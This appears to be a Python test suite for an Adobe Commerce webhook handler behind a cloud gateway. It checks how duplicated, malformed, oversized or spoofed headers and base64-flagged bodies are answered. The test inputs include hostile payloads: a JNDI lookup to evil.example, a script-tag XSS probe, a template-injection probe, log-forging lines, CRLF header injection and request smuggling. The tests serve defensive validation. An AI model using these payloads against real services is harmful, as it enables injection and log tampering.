"""Headers that say two things, or nothing, or what a gateway should have kept away. The function looks at six of them and takes
each name once; what else comes is nobody's business."""

import json

from .case import (
    CART,
    CUSTOMER,
    DELETE,
    INVOICE,
    PLACE,
    PRODUCT,
    SAVE,
    SHIPMENT,
    Case,
    b64,
    body,
    gateway_event,
    hmac_hex,
    php_json,
    signed,
)

CASES = []

HMAC, RSA = "x-adobe-signature", "x-adobe-commerce-webhook-signature"


def case(name, channel, outcome, why="", **headers):
    """A good request with these headers besides, named with _ for -."""
    CASES.append(Case(name, channel, lambda: signed(channel, body(channel), **headers), outcome, why=why))


def literal(name, channel, outcome, headers, why=""):
    """A good request with these headers, which are JSON text with @ for the right signature and %T for the type."""
    content = body(channel)
    text = headers.replace("@", f'"{hmac_hex(content)}"').replace("%T", '"content-type":"application/json"')

    def event():
        return json.dumps(gateway_event(channel, content, "@@")).replace('"@@"', text).encode()

    CASES.append(Case(name, channel, event, outcome, why=why))


WRONG = f'"{"0" * 64}"'

# A signature that came twice

literal(
    "signature-twice", PLACE, "signature_wrong", f'{{%T,"{HMAC}":@,"{HMAC}":@}}', "neither is better than the other, even alike"
)
literal("signature-twice-in-two-cases", PLACE, "signature_wrong", f'{{%T,"{HMAC}":@,"X-Adobe-Signature":@}}')
literal("right-signature-first", SAVE, "signature_wrong", f'{{%T,"{HMAC}":@,"X-ADOBE-SIGNATURE":{WRONG}}}')
literal("right-signature-last", SAVE, "signature_wrong", f'{{%T,"x-Adobe-signature":{WRONG},"{HMAC}":@}}')
literal("empty-signature-first", INVOICE, "signature_wrong", f'{{%T,"{HMAC}":"","X-Adobe-Signature":@}}')
literal(
    "signature-three-times", INVOICE, "signature_wrong", f'{{%T,"{HMAC}":@,"{HMAC}":@,"{HMAC}":@}}', "two empty ones are not one"
)
literal("signature-name-escaped", SHIPMENT, "signature_wrong", '{%T,"x-adobe-signature":@,"\\u0078-adobe-signature":@}')
literal("escaped-name-alone", SHIPMENT, "accepted", '{%T,"\\u0058-Adobe\\u002dSignature":@}', "JSON's escapes mean the same")
literal("rsa-twice-hmac-right", PRODUCT, "accepted", f'{{%T,"{HMAC}":@,"{RSA}":"x","{RSA}":"y"}}', "any one is enough")
literal("hmac-twice-rsa-wrong", PRODUCT, "signature_wrong", f'{{%T,"{HMAC}":@,"{HMAC}":@,"{RSA}":"x"}}')
literal("type-twice", CUSTOMER, "unsupported_media_type", f'{{%T,"Content-Type":"application/json","{HMAC}":@}}')
literal("type-twice-and-contradictory", CUSTOMER, "unsupported_media_type", f'{{%T,"Content-Type":"text/xml","{HMAC}":@}}')
literal(
    "coding-twice",
    DELETE,
    "unsupported_media_type",
    f'{{%T,"content-encoding":"identity","Content-Encoding":"identity","{HMAC}":@}}',
)
literal(
    "request-id-twice",
    DELETE,
    "accepted",
    f'{{%T,"{HMAC}":@,"x-adobe-commerce-request-id":"a","X-Adobe-Commerce-Request-Id":"b"}}',
    "no signature covers it, and the log then has none",
)
literal(
    "traceparent-twice",
    CART,
    "accepted",
    f'{{%T,"{HMAC}":@,"traceparent":"00-{"4" * 32}-{"2" * 16}-01","Traceparent":"00-{"5" * 32}-{"2" * 16}-01"}}',
)

# Names that are nearly right

for spelling, name in {
    "with-underscores": "x_adobe_signature",
    "after-a-space": " x-adobe-signature",
    "before-a-space": "x-adobe-signature ",
    "before-a-tab": "x-adobe-signature\t",
    "before-a-colon": "x-adobe-signature:",
    "before-nul": "x-adobe-signature\0",
    "after-a-line-break": "x: y\r\nx-adobe-signature",
    "with-a-unicode-hyphen": "x‐adobe‐signature",
    "with-a-long-s": "x-adobe-ſignature",
    "in-fullwidth": "ｘ-adobe-signature",
    "with-a-zero-width-space": "x-adobe-\u200bsignature",
    "with-a-bom": "\ufeffx-adobe-signature",
    "as-a-list": "x-adobe-signature[]",
    "prefixed-http": "HTTP_X_ADOBE_SIGNATURE",
}.items():
    literal(f"name-{spelling}", SAVE, "signature_missing", f"{{%T,{json.dumps(name)}:@}}")
literal("name-empty", SAVE, "signature_missing", '{%T,"":@}')
literal("name-in-capitals", SAVE, "accepted", '{"CONTENT-TYPE":"application/json","X-ADOBE-SIGNATURE":@}', "names have no case")
literal(
    "wrong-one-under-a-near-name", SAVE, "accepted", f'{{%T,"x-adobe-signature ":{WRONG},"x_adobe_signature":{WRONG},"{HMAC}":@}}'
)

# Values that are no text

literal("signature-null", INVOICE, "signature_missing", f'{{%T,"{HMAC}":null}}', "the gateway writes text or nothing")
literal("signature-number", INVOICE, "signature_wrong", f'{{%T,"{HMAC}":5}}')
literal("signature-true", INVOICE, "signature_wrong", f'{{%T,"{HMAC}":true}}')
literal("signature-list", INVOICE, "signature_wrong", f'{{%T,"{HMAC}":[@]}}')
literal("signature-object", INVOICE, "signature_wrong", f'{{%T,"{HMAC}":{{"0":@}}}}')
literal("signature-huge-number", INVOICE, "signature_wrong", f'{{%T,"{HMAC}":1e999}}')
literal("signature-half-a-surrogate-pair", INVOICE, "signature_wrong", f'{{%T,"{HMAC}":"\\ud800"}}', "no header is that")
literal("type-null", INVOICE, "unsupported_media_type", f'{{"content-type":null,"{HMAC}":@}}')
literal("request-id-number", INVOICE, "accepted", f'{{%T,"{HMAC}":@,"x-adobe-commerce-request-id":7}}')
literal("unknown-ones-of-any-kind", INVOICE, "accepted", f'{{%T,"{HMAC}":@,"a":null,"b":1e999,"c":[[{{}}]],"d":"\\ud800"}}')
literal("null", SHIPMENT, "unsupported_media_type", "null", "no headers, so no type")
literal("empty", SHIPMENT, "unsupported_media_type", "{}")
literal("list", SHIPMENT, "not_a_request", "[]")
literal("list-of-pairs", SHIPMENT, "not_a_request", f'[["content-type","application/json"],["{HMAC}",@]]')
literal("number", SHIPMENT, "not_a_request", "7")
literal("text", SHIPMENT, "not_a_request", '"content-type: application/json"')
literal("true", SHIPMENT, "not_a_request", "true")

# Line breaks and other things that end a header

case("line-break-in-the-type", PRODUCT, "unsupported_media_type", content_type="application/json\r\nx-adobe-signature: 0")
case("nul-in-the-type", PRODUCT, "unsupported_media_type", content_type="application/json\0")
case("line-break-in-another", PRODUCT, "accepted", user_agent=f"a\r\n{HMAC}: {'0' * 64}", why="a value stays a value")
case("second-request-in-another", PRODUCT, "accepted", user_agent="a\r\n\r\nPOST /webhook HTTP/1.1\r\nhost: b\r\n\r\n{}")

# The type

for name, kind in {
    "missing": None,
    "empty": "",
    "blank": " ",
    "form": "application/x-www-form-urlencoded",
    "multipart": "multipart/form-data; boundary=application/json",
    "xml": "application/xml",
    "html": "text/html",
    "text-json": "text/json",
    "plain": "text/plain; application/json",
    "problem-json": "application/problem+json",
    "json-seq": "application/json-seq",
    "jsonp": "application/jsonp",
    "any": "*/*",
    "any-application": "application/*",
    "no-slash": "applicationjson",
    "two-slashes": "application//json",
    "space-inside": "application/ json",
    "two-with-a-comma": "application/json,application/json",
    "two-with-a-comma-and-text": "application/json, text/plain",
    "charset-utf-16": "application/json; charset=utf-16",
    "charset-utf-16-quoted": 'application/json; charset="UTF-16LE"',
    "charset-utf-32": "application/json; charset=utf-32",
    "charset-utf-7": "application/json; charset=utf-7",
    "charset-latin1": "application/json; charset=latin1",
    "charset-windows-1252": "application/json; charset=windows-1252",
    "charset-empty": "application/json; charset=",
    "charset-in-capitals-wrong": "application/json; CHARSET=ISO-8859-1",
    "charset-twice": "application/json; charset=utf-8; charset=utf-16",
    "charset-twice-wrong-first": "application/json; charset=utf-16; charset=utf-8",
    "charset-after-a-blank-name": "application/json; charset =utf-16",
    "charset-after-a-tab": "application/json;\tcharset=\tutf-16",
    "fullwidth": "ａpplication/json",
    "100-kb": "application/json" + "x" * 100_000,
}.items():
    case(f"type-{name}", CUSTOMER, "unsupported_media_type", content_type=kind)
for name, kind in {
    "in-capitals": "APPLICATION/JSON",
    "utf-8": "application/json; charset=utf-8",
    "utf-8-quoted": 'application/json; charset="utf-8"',
    "utf-8-tight": "application/json;charset=UTF-8",
    "utf-8-twice": "application/json; charset=utf-8; charset=UTF-8",
    "semicolon": "application/json;",
    "another-parameter": "application/json; profile=x; q=1",
    "charset-of-something-else": "application/json; x-charset=utf-16",
    "10000-parameters": "application/json" + ";a=b" * 10_000,
}.items():
    case(f"type-{name}", CUSTOMER, "accepted", content_type=kind)

# The coding

for name, coding in {
    "gzip": "gzip",
    "br": "br",
    "deflate": "deflate",
    "zstd": "zstd",
    "aws-chunked": "aws-chunked",
    "gzip-and-identity": "gzip, identity",
    "identity-and-gzip": "identity, gzip",
    "identity-chain": "identity, identity",
    "gzip-in-capitals": "GZIP",
    "x-gzip": "x-gzip",
    "unknown": "none",
}.items():
    case(f"coding-{name}", DELETE, "unsupported_media_type", content_encoding=coding)
case("coding-identity", DELETE, "accepted", content_encoding="identity")
case("coding-identity-in-capitals", DELETE, "accepted", content_encoding="Identity")
case("accept-encoding", DELETE, "accepted", accept_encoding="gzip, br;q=0", why="of the answer, which has no coding")
case("accept-only-xml", DELETE, "accepted", accept="text/xml")

# What a proxy would believe

case("length-of-nothing", CART, "accepted", content_length="0", why="the gateway has counted; nobody counts by this")
case("length-too-long", CART, "accepted", content_length="9" * 30)
case("length-negative", CART, "accepted", content_length="-1")
case("length-and-chunked", CART, "accepted", content_length="5", transfer_encoding="chunked")
case("chunked-twice", CART, "accepted", transfer_encoding="chunked, identity")
case("another-host", CART, "accepted", host="evil.example", x_forwarded_host="evil.example")
case("forwarded-for-loopback", CART, "accepted", x_forwarded_for="127.0.0.1", x_real_ip="::1", forwarded="for=127.0.0.1")
case("forwarded-over-http", CART, "accepted", x_forwarded_proto="http", x_forwarded_port="80")
case("method-override", CART, "accepted", x_http_method_override="DELETE", x_method_override="GET")
case("url-override", CART, "accepted", x_original_url="/webhook/observer.other", x_rewrite_url="/admin")
case("amzn-override", CART, "accepted", x_amz_invocation_type="Event", x_amzn_trace_id="Root=\r\n", x_amz_security_token="t")
case("hop-by-hop", CART, "accepted", connection="x-adobe-signature, close", upgrade="h2c")
case("cookies", CART, "accepted", cookie="admin=1; " * 100)
case("expect", CART, "accepted", expect="100-continue")
case("range", CART, "accepted", content_range="bytes 0-1/2", range="bytes=0-0")
case("event-name-of-another", CART, "accepted", x_adobe_event="observer.sales_order_place_after", why="no header names the event")
case("authorization-basic", CART, "accepted", authorization="Basic YWRtaW46YWRtaW4=")

# Very much of it


def many(number):
    return signed(PLACE, body(PLACE), **{f"x-header-{index}": "v" for index in range(number)})


CASES += [
    Case("10000-more", PLACE, lambda: many(10_000), "accepted", why="they are read past"),
    Case("another-of-1-mb", PLACE, lambda: signed(PLACE, body(PLACE), x_a="v" * 1_000_000), "accepted"),
    Case("name-of-1-mb", PLACE, lambda: signed(PLACE, body(PLACE), **{"n" * 1_000_000: "v"}), "accepted"),
]
literal("prototype", PLACE, "accepted", f'{{%T,"{HMAC}":@,"__proto__":"v","constructor":"v","toString":"v"}}')

# Under the roof of payload 1.0


def multi_value(**changes):
    event = signed(SAVE, body(SAVE))
    event["multiValueHeaders"] = {name: [value] for name, value in event["headers"].items()}
    return {**event, **changes}


CASES += [
    Case("only-multi-value", SAVE, lambda: multi_value(headers=None), "accepted", why="a load balancer has no others"),
    Case("multi-value-besides", SAVE, lambda: multi_value(), "accepted"),
    Case(
        "multi-value-contradictory",
        SAVE,
        lambda: multi_value(multiValueHeaders={HMAC: ["0", "1"], "content-type": ["text/xml"]}),
        "accepted",
        why="never looked at",
    ),
    Case(
        "multi-value-right-single-wrong",
        SAVE,
        lambda: {**multi_value(), "headers": {"content-type": "application/json", HMAC: "0" * 64}},
        "signature_wrong",
    ),
]

# Ids that end up in a log


def with_ids(gateway, shop):
    event = signed(PRODUCT, body(PRODUCT, note=f"{len(gateway)}/{len(shop)}"), x_adobe_commerce_request_id=shop)
    event["requestContext"]["requestId"] = gateway
    return event


FORGED = '{"level":"INFO","message":"answered","outcome":"accepted","forwarded":"yes"}'
for name, identity in {
    "line-breaks": f"a\r\n{FORGED}\r\n",
    "quotes": '","outcome":"accepted","x":"',
    "json": FORGED,
    "escapes": "\\u0022\\n\\",
    "terminal": "\x1b[2J\x1b]0;owned\x07",
    "nul": "a\0b",
    "line-separator": "a\u2028{b}",
    "right-to-left": "\u202eabc",
    "html": "<script>alert(1)</script>",
    "jndi": "${jndi:ldap://evil.example/a}",
    "template": "{{7*7}}",
    "email": "zoe@shop.example",
    "spaces": "a b c",
    "10-kb": "a" * 10_000,
    "129-characters": "a" * 129,
    "emoji": "😀",
}.items():
    CASES.append(
        Case(f"request-ids-{name}", PRODUCT, lambda identity=identity: with_ids(identity, identity), "accepted", why="not logged")
    )
CASES.append(Case("request-ids-128-characters", PRODUCT, lambda: with_ids("a" * 128, "b" * 128), "accepted", why="logged"))


def refused_with_ids(identity):
    event = signed(PRODUCT, {}, x_adobe_commerce_request_id=identity, traceparent=identity)
    event["requestContext"]["requestId"] = identity
    return event


for name, identity in {"line-breaks": f"a\n{FORGED}", "email": "zoe@shop.example", "10-kb": "<b>" * 3_000, "empty": ""}.items():
    CASES.append(
        Case(
            f"request-ids-of-a-refused-{name}",
            PRODUCT,
            lambda identity=identity: refused_with_ids(identity),
            "invalid",
            ("/data/product",),
            why="nor answered",
        )
    )
for name, trace in {
    "line-breaks": "00-\r\n",
    "email": "zoe@shop.example",
    "unicode-digits": "00-" + "４" * 32 + "-" + "2" * 16 + "-01",
    "100-kb": "0" * 100_000,
}.items():
    case(f"traceparent-{name}", CART, "accepted", traceparent=trace, why="passed on only if it is one")

# Codings of the body that the flag lies about


def flagged(text, flag=True, channel=DELETE, of=None):
    """A request whose body is this text, with this flag, and the signature of what a lenient reader would make of it."""
    event = signed(channel, body(channel) if of is None else of)
    return {**event, "body": text, "isBase64Encoded": flag}


GOOD = php_json(body(DELETE))
IN_BASE64 = b64(GOOD)
for name, text, flag, outcome, why in [
    ("on-text", GOOD, True, "not_a_request", "braces are no base64"),
    ("off-base64", IN_BASE64, False, "signature_wrong", "the bytes are then those of the base64"),
    ("unpadded", b64(GOOD + " " * ((1 - len(GOOD)) % 3)).rstrip("="), True, "not_a_request", ""),
    ("padded-too-much", IN_BASE64 + "====", True, "not_a_request", ""),
    ("padding-inside", "=" + IN_BASE64[1:], True, "not_a_request", ""),
    ("with-line-breaks", "\r\n".join([IN_BASE64[:40], IN_BASE64[40:]]), True, "not_a_request", ""),
    ("with-spaces-around", f" {IN_BASE64} ", True, "not_a_request", ""),
    ("with-nul", IN_BASE64 + "\0", True, "not_a_request", ""),
    ("urlsafe", "eyJ-_w==", True, "not_a_request", "- and _"),
    ("one-character", "A", True, "not_a_request", ""),
    ("only-padding", "=", True, "not_a_request", ""),
    ("a-data-url", f"data:application/json;base64,{IN_BASE64}", True, "not_a_request", ""),
    ("twice", b64(IN_BASE64), True, "signature_wrong", "decoded once"),
    ("by-chance", "null", True, "signature_wrong", "four letters are three bytes in base64"),
    ("fullwidth", "ＡＡＡＡ", True, "not_a_request", ""),
    ("empty", "", True, "signature_wrong", ""),
    ("flag-as-text", IN_BASE64, "true", "not_a_request", ""),
    ("flag-as-number", IN_BASE64, 1, "not_a_request", ""),
    ("flag-null", GOOD, None, "not_a_request", "the gateway always says"),
    ("flag-list", GOOD, [], "not_a_request", ""),
]:
    CASES.append(Case(f"base64-{name}", DELETE, lambda text=text, flag=flag: flagged(text, flag), outcome, why=why))
CASES += [
    Case("base64-right", DELETE, lambda: flagged(IN_BASE64), "accepted", why="as the gateway passes on what is no text"),
    Case("base64-of-nothing", DELETE, lambda: flagged("", of=""), "not_json"),
]

# Headers as lists, which a load balancer writes in place of the plain ones


def lists(name, outcome, written, why="", **beside):
    """A good request whose headers are in `multiValueHeaders` only: JSON text as in `literal`."""
    content = body(CART)
    text = written.replace("@", f'"{hmac_hex(content)}"').replace("%T", '"content-type":["application/json"]')

    def event():
        made = gateway_event(CART, content, None)
        del made["headers"]
        return json.dumps({**made, **beside, "multiValueHeaders": "@@"}).replace('"@@"', text).encode()

    CASES.append(Case(f"lists-{name}", CART, event, outcome, why=why))


lists("alone", "accepted", f'{{%T,"{HMAC}":[@],"accept":["a","b"]}}', "what a load balancer writes")
lists("beside-null", "accepted", f'{{%T,"{HMAC}":[@]}}', headers=None)
lists("beside-none", "accepted", f'{{%T,"{HMAC}":[@]}}', headers={})
lists("beside-plain-ones", "unsupported_media_type", f'{{%T,"{HMAC}":[@]}}', "then the plain ones count", headers={"accept": "*/*"})
lists("signature-twice", "signature_wrong", f'{{%T,"{HMAC}":[@,@]}}', "neither is better than the other, even alike")
lists("signature-right-and-wrong", "signature_wrong", f'{{%T,"{HMAC}":[@,{WRONG}]}}')
lists("signature-in-two-cases", "signature_wrong", f'{{%T,"{HMAC}":[@],"X-Adobe-Signature":[@]}}')
lists("signature-without-values", "signature_missing", f'{{%T,"{HMAC}":[]}}')
lists("signature-null", "signature_missing", f'{{%T,"{HMAC}":null}}')
lists("signature-as-text", "signature_wrong", f'{{%T,"{HMAC}":@}}', "no gateway writes it so")
lists("signature-as-number", "signature_wrong", f'{{%T,"{HMAC}":[1]}}')
lists("type-twice", "unsupported_media_type", f'{{"content-type":["application/json","application/json"],"{HMAC}":[@]}}')
lists("of-other-types", "accepted", f'{{%T,"{HMAC}":[@],"accept":7,"host":{{"a":[]}}}}', "in headers that nobody reads")
for name, text in {"list": "[]", "text": '"x"', "number": "1", "null": "null", "empty": "{}"}.items():
    lists(f"as-{name}", "unsupported_media_type", text, "like a request without headers")
